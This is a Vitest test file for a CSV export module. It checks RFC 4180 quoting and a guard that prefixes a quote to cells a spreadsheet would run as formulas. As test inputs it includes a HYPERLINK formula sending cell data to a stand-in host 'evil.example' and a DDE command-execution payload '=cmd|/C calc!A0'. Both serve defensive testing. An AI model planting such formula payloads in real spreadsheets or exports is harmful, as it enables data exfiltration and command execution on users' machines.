import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../src/core/csv.js';
import { ledgerCsv } from '../../src/platform/ledger/ledger-command.js';
import { rowsToCsv } from '../../src/platform/platform-tables.js';

describe('csvField', () => {
  it('quotes per RFC 4180 (section 2, rules 5-7): comma, double quote, CR, LF; double quotes doubled', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('house, 2')).toBe('"house, 2"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });

  it('guards text cells a spreadsheet would run as a formula (OWASP CSV Injection) with a leading quote', () => {
    expect(csvField('=1+2')).toBe("'=1+2");
    expect(csvField('+1+2')).toBe("'+1+2");
    expect(csvField('-1+2')).toBe("'-1+2");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1+2')).toBe("'\t=1+2");
    expect(csvField('\r=1+2')).toBe(`"'\r=1+2"`);
    expect(csvField('-')).toBe("'-");
    expect(csvField('-2e3x')).toBe("'-2e3x");
    // Guarded, then quoted: the quote character stays inside the quoted field.
    expect(csvField('=HYPERLINK("http://evil.example?"&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://evil.example?""&A1,""click"")"`,
    );
    // Not at the start: nothing to guard.
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('inv-07')).toBe('inv-07');
  });

  it('writes numbers as numbers, negative ones too, typed or as plain decimal text', () => {
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField(0)).toBe('0');
    expect(csvField(412)).toBe('412');
    expect(csvField('-0.500')).toBe('-0.500');
    expect(csvField('+3')).toBe('+3');
    expect(csvField('-1e-3')).toBe('-1e-3');
    expect(csvField('-.5')).toBe('-.5');
    expect(csvField(true)).toBe('true');
  });
});

describe('toCsv', () => {
  it('writes a header and one LF-terminated line per row, read back cell for cell', () => {
    const csv = toCsv(
      ['id', 'note', 'kWh'],
      [
        ['=cmd|/C calc!A0', 'a "quoted", two-line\nnote', -2.25],
        ['house-1', null, 3],
      ],
    );
    expect(csv).toBe(`id,note,kWh\n'=cmd|/C calc!A0,"a ""quoted"", two-line\nnote",-2.25\nhouse-1,,3\n`);
    expect(parseRfc4180(csv)).toEqual([
      ['id', 'note', 'kWh'],
      ["'=cmd|/C calc!A0", 'a "quoted", two-line\nnote', '-2.25'],
      ['house-1', '', '3'],
    ]);
  });
});

describe('the platform CSV writers', () => {
  it('ledger export: ordinary rows as before, a party id that is a formula guarded', () => {
    const hash = 'ab'.repeat(32);
    const csv = ledgerCsv([
      {
        index: 0,
        time: '2026-06-01T10:00:00.000Z',
        kind: 'settlement',
        parties: ['pv-1', 'house, 2'],
        amounts: { 'pv-1': 0.5, 'house, 2': -0.5 },
        hash,
      },
      { index: 1, time: '2026-06-01T10:15:00.000Z', kind: 'member', parties: ['=2+5'], amounts: {}, hash },
    ]);
    expect(csv.split('\n')).toEqual([
      'index,time,kind,parties,amounts,hash',
      `0,2026-06-01T10:00:00.000Z,settlement,"pv-1;house, 2","pv-1=0.5;house, 2=-0.5",${hash}`,
      `1,2026-06-01T10:15:00.000Z,member,'=2+5,,${hash}`,
      '',
    ]);
  });

  it('platform lists: the union of keys as header, nested values as JSON, negative numbers kept', () => {
    expect(
      rowsToCsv([
        { id: 'inv-3', net: -0.21, flags: { disputed: false } },
        { id: '@inv-4', note: null, net: 1 },
      ]),
    ).toBe(`id,net,flags,note\ninv-3,-0.21,"{""disputed"":false}",\n'@inv-4,1,,null\n`);
  });
});

/** A small RFC 4180 reader written from the RFC's grammar (section 2), independent of the writer. */
function parseRfc4180(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  return rows;
}
